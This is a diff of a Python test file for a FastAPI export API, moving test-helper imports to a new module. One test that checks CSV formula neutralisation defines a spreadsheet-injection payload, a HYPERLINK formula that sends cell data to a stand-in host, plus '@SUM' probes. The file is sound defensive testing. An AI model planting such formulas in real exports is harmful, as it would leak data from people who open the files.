@@ -10,8 +10,8 @@ import pytest
 from fastapi.testclient import TestClient
 from polars.testing import assert_frame_equal
 
-from api.testing import small_world
 from tests.api.conftest import bearer
+from tests.api.world import small_world
 
 ISO = "%Y-%m-%dT%H:%M:%S%:z"
 
@@ -101,9 +101,9 @@ def test_campaign_demand(client: TestClient, keys: dict[str, str]) -> None:
 def test_supplier_without_rows_gets_an_empty_file_with_the_header(tmp_path) -> None:
     from api.app import create_app
     from api.keys import create_key
-    from api.testing import write_snapshot
     from common.home import Home
     from tests.api.conftest import FAST
+    from tests.api.world import write_snapshot
 
     world = small_world()
     extra = pl.DataFrame(
@@ -134,9 +134,9 @@ def test_as_of_is_the_platform_day_of_a_zoned_stamp(tmp_path) -> None:
 
     from api.app import create_app
     from api.keys import create_key
-    from api.testing import write_snapshot
     from common.home import Home
     from tests.api.conftest import FAST
+    from tests.api.world import write_snapshot
 
     world = small_world()
     stamp = datetime(2026, 11, 29, tzinfo=ZoneInfo("Asia/Shanghai"))
@@ -163,9 +163,9 @@ def test_csv_neutralises_formulas_json_and_parquet_stay_raw(tmp_path) -> None:
 
     from api.app import create_app
     from api.keys import create_key
-    from api.testing import write_snapshot
     from common.home import Home
     from tests.api.conftest import FAST
+    from tests.api.world import write_snapshot
 
     evil = '=HYPERLINK("http://x.test/?"&A1,"点此")'
     names = {"P1": evil, "P2": "-20% 特价大米", "P3": "@SUM(1+1)"}
@@ -206,9 +206,9 @@ def test_a_zero_suggestion_with_a_positive_median_says_why(tmp_path) -> None:
 
     from api.app import create_app
     from api.keys import create_key
-    from api.testing import write_snapshot
     from common.home import Home
     from tests.api.conftest import FAST
+    from tests.api.world import write_snapshot
 
     world = small_world()
     world["demand"] = world["demand"].with_columns(
